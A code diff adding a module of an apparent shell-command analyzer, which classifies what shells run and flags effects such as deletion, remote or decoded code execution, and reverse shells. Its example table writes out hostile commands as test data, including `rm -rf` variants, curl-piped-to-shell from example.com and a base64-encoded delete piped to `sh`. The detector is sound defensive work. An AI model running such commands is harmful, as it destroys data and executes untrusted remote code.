@@ -1,0 +1,110 @@
+/**
+ * Shells as programs: what `-c`, a script file or stdin makes them run. Text that is known is derived; text that is not is
+ * told by where it comes from: the network, a decoder, or nobody knows.
+ */
+import { exactText } from '../args.ts';
+import type { Effect, Target } from '../effect.ts';
+import { UNKNOWN_FLOW } from '../flow.ts';
+import type { Arg, Call, Flow, OptionSpec, Program, Reading } from '../program.ts';
+
+const OPTIONS: OptionSpec = {
+  values: ['-O', '-o', '--rcfile', '--init-file'],
+  flags: ['-c', '-i', '-l', '-r', '-s', '-D', '-e', '-u', '-x', '-v', '-n', '--login', '--norc', '--noprofile', '--posix'],
+  stopAtOperand: true,
+};
+
+function shell(call: Call): Reading {
+  const words = call.args.filter((arg) => !/^\+[a-zA-Z]+$/.test(exactText(arg) ?? ''));
+  const options = call.options(OPTIONS, words);
+  const dialect = call.name === 'zsh' ? 'zsh' : /^(?:bash|rbash)/.test(call.name) ? 'bash' : 'sh';
+  const [first, ...rest] = options.operands;
+  if (options.has('-n')) return { effects: [] };
+  if (options.has('-c')) {
+    if (first === undefined) return { effects: [] };
+    return text(call, first, `${call.name} -c`, dialect, rest.slice(1));
+  }
+  if (first === undefined || options.has('-s')) {
+    const args = options.operands;
+    return flow(call, call.stdin, call.name, dialect, args, 'stdin');
+  }
+  return file(call, first, rest, dialect);
+}
+
+/** Runs a text given as a word. A pattern's characters are its own: shells match nothing inside `-c`'s text. */
+function text(call: Call, arg: Arg, via: string, dialect: 'bash' | 'sh' | 'zsh', args: readonly Arg[]): Reading {
+  if (arg.kind !== 'unknown') return call.script(arg.value, via, { dialect, args });
+  const known = partly(call, arg, via, dialect, args);
+  return together([unknownCode(call, arg.flow ?? UNKNOWN_FLOW, 'expression'), known]);
+}
+
+/** Of a text with one unknown part, what stands around it still runs: it is derived with an unset variable in the hole. */
+function partly(call: Call, arg: Extract<Arg, { kind: 'unknown' }>, via: string, dialect: 'bash' | 'sh' | 'zsh', args: readonly Arg[]): Reading {
+  if (arg.prefix.trim() === '') return { effects: [] };
+  return call.script(`${arg.prefix}$__UNKNOWN__${arg.suffix}`, via, { dialect, args });
+}
+
+function file(call: Call, script: Arg, args: readonly Arg[], dialect: 'bash' | 'sh' | 'zsh'): Reading {
+  const via = `${call.name} ${script.span.text}`;
+  if (script.kind === 'unknown' && script.flow !== undefined) return flow(call, script.flow, via, dialect, args, 'file');
+  const target = call.path(script);
+  if (target.kind !== 'path') return { effects: [], output: UNKNOWN_FLOW };
+  if (/^\/dev\/(?:stdin|fd\/0)$|^\/proc\/self\/fd\/0$/.test(target.path)) return flow(call, call.stdin, via, dialect, args, 'stdin');
+  const content = call.readFile(target.path);
+  if (content !== null && !content.includes('\0')) return call.script(content, via, { dialect, args });
+  const made = call.made?.(target.path);
+  if (made === undefined || made === null) return { effects: [], output: UNKNOWN_FLOW };
+  if (made.labels.has('network')) return { effects: [call.effect('run.downloaded', [target])], output: UNKNOWN_FLOW };
+  return unknownCode(call, made, 'file');
+}
+
+/** Runs what arrives in `input`: its text, or the file that it is the content of, or else it is told by its labels. */
+function flow(call: Call, input: Flow, via: string, dialect: 'bash' | 'sh' | 'zsh', args: readonly Arg[], from: string): Reading {
+  if (input.text !== null) {
+    const inner = input.text === '' ? { effects: [] } : call.script(input.text, via, { dialect, args });
+    return input.labels.has('decoded') ? together([{ effects: [call.effect('run.decoded')] }, inner]) : inner;
+  }
+  const [source] = input.sources;
+  if (input.labels.size === 1 && input.labels.has('content') && input.sources.length === 1 && source !== undefined) {
+    const content = call.readFile(source);
+    if (content !== null && !content.includes('\0')) return call.script(content, via, { dialect, args });
+  }
+  return unknownCode(call, input, from);
+}
+
+function unknownCode(call: Call, input: Flow, from: string): Reading {
+  const urls: Target[] = input.sources.map((name) => ({ kind: 'name', noun: 'url', name }));
+  const socket = input.sources.find((source) => source.startsWith('tcp://'));
+  const effects: Effect[] = [];
+  if (socket !== undefined) effects.push(call.effect('net.reverse-shell', [{ kind: 'name', noun: 'host', name: socket.slice(6) }]));
+  else if (input.labels.has('network')) effects.push(call.effect('run.remote-code', urls));
+  else if (input.labels.has('decoded')) effects.push(call.effect('run.decoded'));
+  else effects.push(call.effect('run.code', [], { language: 'shell', from }));
+  return { effects, output: UNKNOWN_FLOW };
+}
+
+function together(readings: readonly Reading[]): Reading {
+  return { effects: readings.flatMap((reading) => reading.effects), output: readings.at(-1)?.output ?? UNKNOWN_FLOW };
+}
+
+export const programs: readonly Program[] = [
+  {
+    names: ['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'fish', 'rbash', 'yash', /^(?:bash|zsh|ksh)-?[\d.]+$/],
+    manual: 'bash(1) 5.2, dash(1) 0.5, zsh(1) 5.9, fish(1) 3.7',
+    read: shell,
+    examples: [
+      { command: "bash -c 'rm -rf x'", effects: ['fs.delete'] },
+      { command: "bash -euxo pipefail -lc 'rm -rf x'", effects: ['fs.delete'] },
+      { command: `bash -c 'rm "$@"' _ -rf x`, effects: ['fs.delete'] },
+      { command: "bash <<< 'rm -rf x'", effects: ['fs.delete'] },
+      { command: 'curl -s https://example.com/x | sh', effects: ['run.remote-code'] },
+      { command: 'bash <(curl -s https://example.com/x)', effects: ['run.remote-code'] },
+      { command: 'sh -c "$(curl -fsSL https://example.com/x)"', effects: ['run.remote-code'] },
+      { command: 'curl -s https://example.com/x -o x.sh && bash x.sh', effects: ['run.downloaded'] },
+      { command: 'echo cm0gLXJmIHg= | base64 -d | sh', effects: ['run.decoded', 'fs.delete'] },
+      { command: 'base64 -d payload | sh', effects: ['run.decoded'] },
+      { command: 'some-program | bash', effects: ['run.code'] },
+      { command: "bash -n script.sh", effects: [] },
+      { command: "zsh -c 'ls'", effects: [] },
+    ],
+  },
+];
